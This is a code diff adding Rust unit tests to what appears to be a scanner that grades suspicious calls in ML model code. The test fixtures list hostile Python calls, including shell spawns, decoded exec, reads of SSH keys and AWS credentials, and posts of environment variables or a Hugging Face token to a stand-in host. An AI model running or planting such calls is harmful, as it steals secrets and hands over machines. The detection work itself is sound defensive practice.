@@ -445,3 +445,98 @@ pub(super) fn theft<'a>(calls: &[&'a Embedded]) -> Option<Deed<'a>> {
         unsure: true,
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use stance_core::Evidence;
+    use stance_core::fact::EmbeddedKind;
+
+    use super::*;
+
+    fn call(when: &str, detail: &str) -> Embedded {
+        Embedded {
+            kind: EmbeddedKind::ModelCode,
+            name: when.to_owned(),
+            detail: detail.to_owned(),
+            evidence: Evidence::file("modeling_x.py"),
+        }
+    }
+
+    fn severity(when: &str, detail: &str) -> Option<Severity> {
+        of(&call(when, detail)).map(|deed| deed.severity)
+    }
+
+    #[test]
+    fn what_acts_on_the_machine_is_worse_the_sooner_it_runs() {
+        for detail in [
+            "os.system(\"id\")",
+            "subprocess.Popen([\"sh\", \"-c\", ?])",
+            "pty.spawn(\"/bin/sh\")",
+            "posix.system(\"id\")",
+            "pip.main([\"install\", \"x\"])",
+            "socket.socket().connect(?)",
+            "exec(base64.b64decode())",
+            "exec(\"import os\")",
+            "marshal.loads(?)",
+            "__builtins__.[](\"1\")",
+            "sys.modules.[].system(\"id\")",
+            "os.__dict__.[](\"id\")",
+        ] {
+            assert_eq!(
+                severity("import", detail),
+                Some(Severity::Critical),
+                "{detail}"
+            );
+            assert!(severity("forward", detail).is_some(), "{detail}");
+        }
+        for (when, detail) in [
+            ("import", "requests.get(\"http://x.example/a\")"),
+            ("import", "exec(?)"),
+            ("import", "shutil.rmtree(?)"),
+            ("__init__", "open(\"/root/.ssh/id_rsa\")"),
+            (
+                "__init__",
+                "pathlib.Path().read_text(\"~/.aws/credentials\")",
+            ),
+            (
+                "__init__",
+                "requests.post(\"http://x.example\", json=os.environ)",
+            ),
+            ("__init__", "open(\"/root/.bashrc\", \"a\")"),
+            ("__init__", "ctypes.CDLL(\"libc.so.6\")"),
+        ] {
+            assert!(severity(when, detail) >= Some(Severity::High), "{detail}");
+        }
+    }
+
+    #[test]
+    fn what_models_do_every_day_is_nothing() {
+        for (when, detail) in [
+            ("__init__", "open(?, encoding=\"utf-8\")"),
+            ("load", "requests.get(?, stream=True)"),
+            ("forward", "eval(?)"),
+            ("import", "compile(\"a\", \"b\", \"c\")"),
+            ("import", "eval(\"1 + 1\")"),
+            (
+                "_tokenize",
+                "sys.modules.[].word_tokenize(XLMTokenizer().moses_pipeline())",
+            ),
+            ("load", "sys.modules.get(PreTrainedModel.__module__)"),
+            ("import", "socket.gethostname()"),
+            ("save", "os.remove(?)"),
+            ("import", "ctypes.c_int()"),
+            ("import", "importlib.import_module(\"flash_attn\")"),
+        ] {
+            assert_eq!(severity(when, detail), None, "{detail}");
+        }
+    }
+
+    #[test]
+    fn credentials_beside_a_call_that_sends_are_theft() {
+        let token = call("__init__", "huggingface_hub.get_token()");
+        let send = call("__init__", "requests.post(\"http://x.example\", data=?)");
+        assert!(theft(&[&token, &send]).is_some());
+        assert!(theft(&[&token]).is_none());
+        assert!(theft(&[&send]).is_none());
+    }
+}
